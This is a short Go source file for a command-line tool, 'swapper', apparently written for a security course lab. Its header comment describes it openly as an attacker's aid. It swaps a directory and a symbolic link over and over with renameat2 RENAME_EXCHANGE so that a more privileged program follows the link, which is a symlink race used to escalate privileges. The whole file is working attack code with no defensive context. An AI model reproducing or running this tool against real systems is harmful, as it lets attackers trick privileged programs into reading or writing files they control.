// Command swapper exchanges two names in a loop until SIGTERM. An attacker who owns a
// folder does that to make a program with more rights follow a link: one name is the
// folder, the other the link.
//
//	swapper /var/lib/cis490/releases/blobs /var/lib/cis490/releases/link
//
// It retries while a name is missing. At the end it restores both names and prints the
// number of exchanges.
package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: swapper NAME NAME")
		return
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer stop()
	fmt.Println(swap(ctx, os.Args[1], os.Args[2]))
}

// swap exchanges two names until the context ends, and returns the number of exchanges.
func swap(ctx context.Context, a, b string) (n int) {
	for ctx.Err() == nil || n%2 == 1 {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err == nil {
			n++
		} else if ctx.Err() != nil {
			return n
		}
	}
	return n
}
